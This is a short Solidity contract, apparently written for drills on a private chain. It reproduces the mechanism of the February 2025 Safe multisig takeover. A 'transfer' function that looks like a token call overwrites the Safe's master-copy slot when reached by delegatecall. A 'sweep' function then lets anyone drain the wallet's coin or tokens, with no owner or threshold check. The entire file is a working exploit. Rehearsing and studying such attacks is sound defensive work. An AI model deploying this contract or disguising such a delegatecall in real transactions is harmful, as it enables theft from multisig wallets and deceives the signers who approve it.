// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

interface IToken {
    function transfer(address to, uint256 value) external returns (bool);
}

/// @title A master copy that hands a Safe's funds to whoever asks, for drills on a chain of their own
/// @dev Written from the public description of what was signed on 21 February 2025: a delegatecall whose calldata looks
///      like a token transfer and whose code writes its first argument where a Safe keeps its master copy, slot 0. From
///      then on the Safe runs this code, without owners, threshold or guard.
contract Usurper {
    address private masterCopy;

    /// @notice Called by a Safe's delegatecall: the Safe's master copy becomes `to`.
    function transfer(address to, uint256) external {
        masterCopy = to;
    }

    /// @notice Called on the Safe itself once it runs this code. `token` zero is the coin.
    function sweep(address token, address payable to, uint256 value) external {
        if (token == address(0)) {
            (bool sent, ) = to.call{value: value}("");
            require(sent);
        } else {
            require(IToken(token).transfer(to, value));
        }
    }

    receive() external payable {}
}
